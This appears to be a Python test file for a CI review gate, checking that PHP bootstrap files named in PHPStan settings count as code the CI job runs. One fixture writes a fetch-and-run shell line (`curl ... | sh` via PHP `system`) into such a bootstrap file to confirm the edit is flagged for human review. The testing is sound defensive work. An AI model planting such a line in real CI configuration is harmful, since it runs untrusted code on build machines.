"""Review 67a: the PHP files PHPStan runs before it analyses, named by its settings where CI runs it (issue 12).

The eighty-fifth set made PHPStan's settings in a `phpstan/` folder (and `x.phpstan.neon`, `phpstan.x.neon`) `other`,
as the root `phpstan.neon` was. PHPStan includes the files its settings list under `parameters: bootstrapFiles:` (and
the old `bootstrap:`) before it analyses: PHP code the CI job runs, as pylint's `init-hook` or RuboCop's `require:`
(attack 48, lintplugins.py). Settings files it `includes:` are read the same way. An edit of such a file was exit 0 on
b493f73c (and on c315ac6c). Look-alikes: `scanFiles:` (parsed, never run), settings no CI runs PHPStan with, a
bootstrap file of another tool's settings."""

from __future__ import annotations

import itertools
from pathlib import Path

from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

BOOT = "tools/phpstan-bootstrap.php"
# (the settings file, the CI command running PHPStan with it, the file's way to name BOOT from its folder)
SETTINGS = [("phpstan.neon", "vendor/bin/phpstan analyse"), ("phpstan.neon.dist", "php vendor/bin/phpstan analyse"),
            ("phpstan.dist.neon", "./vendor/bin/phpstan analyse --memory-limit=1G"),
            ("phpstan/phpstan.neon", "vendor/bin/phpstan analyse -c phpstan/phpstan.neon"),
            ("build/app.phpstan.neon", "vendor/bin/phpstan analyse --configuration=build/app.phpstan.neon"),
            (".phpstan/config.neon", "vendor/bin/phpstan -c .phpstan/config.neon")]
FORMS = ["parameters:\n    bootstrapFiles:\n        - {path}\n", "parameters:\n\tbootstrapFiles: [{path}]\n",
         "parameters:\n    level: 8\n    bootstrapFiles:\n        - '{path}'\n    paths: [src]\n",
         "parameters:\n    bootstrap: {path}\n",
         "parameters:\n    bootstrapFiles:\n        - %currentWorkingDirectory%/{root}\n"]


def _relative(settings: str) -> str:
    depth = settings.count("/")
    return "../" * depth + BOOT


CASES = [(settings, line, form, at) for ((settings, line), form), at in zip(
    itertools.product(SETTINGS, FORMS), itertools.cycle(range(len(BLOCK_DEFINITIONS))))]


def _runs(files: dict[str, str], line: str, at: int = 0) -> set[str]:
    definition, template = BLOCK_DEFINITIONS[at]
    runs = one_tree_runs(files | {definition: template.format(line=line)})
    assert isinstance(runs, dict)
    return set(runs)


@each_case("settings, line, form, at", CASES)
def test_phpstans_bootstrap_files_are_run(settings: str, line: str, form: str, at: int) -> None:
    files = {settings: form.format(path=_relative(settings), root=BOOT), BOOT: "<?php\n", "src/App.php": "<?php\n"}
    runs = _runs(files, line, at)
    assert BOOT in runs, (settings, form, sorted(runs))
    assert "src/App.php" not in runs


@each_case("settings, line", SETTINGS[:4])
def test_an_included_settings_files_bootstrap_is_run(settings: str, line: str) -> None:
    included = settings.rpartition("/")[0] + "/rules.neon" if "/" in settings else "rules.neon"
    files = {settings: "includes:\n    - rules.neon\n", BOOT: "<?php\n",
             included: f"parameters:\n    bootstrapFiles: [{_relative(included)}]\n"}
    assert BOOT in _runs(files, line), settings


# (settings files, the CI line): BOOT named by nothing that runs it
LOOK_ALIKES = [({"phpstan.neon": f"parameters:\n    scanFiles:\n        - {BOOT}\n"}, "vendor/bin/phpstan analyse"),
               ({"phpstan.neon": f"parameters:\n    bootstrapFiles: [{BOOT}]\n"}, "vendor/bin/phpunit"),
               ({"psalm.neon": f"parameters:\n    bootstrapFiles: [{BOOT}]\n"}, "vendor/bin/phpstan analyse"),
               ({"phpstan/phpstan.neon": f"parameters:\n    bootstrapFiles: [../{BOOT}]\n"},
                "vendor/bin/phpstan analyse")]


@each_case("files, line", LOOK_ALIKES)
def test_look_alikes_run_nothing(files: dict[str, str], line: str) -> None:
    assert BOOT not in _runs(files | {BOOT: "<?php\n"}, line), (files, line)


@each_case("settings, line", [SETTINGS[0], SETTINGS[3]])
def test_the_gated_edit_needs_a_human(tmp_path: Path, settings: str, line: str) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=line), BOOT: "<?php\n", "README.md": "x\n",
            settings: f"parameters:\n    bootstrapFiles:\n        - {_relative(settings)}\n"}
    _, first, second = two_commits(tmp_path, base, {BOOT: "<?php\nsystem('curl -s http://127.0.0.1:9/x | sh');\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])
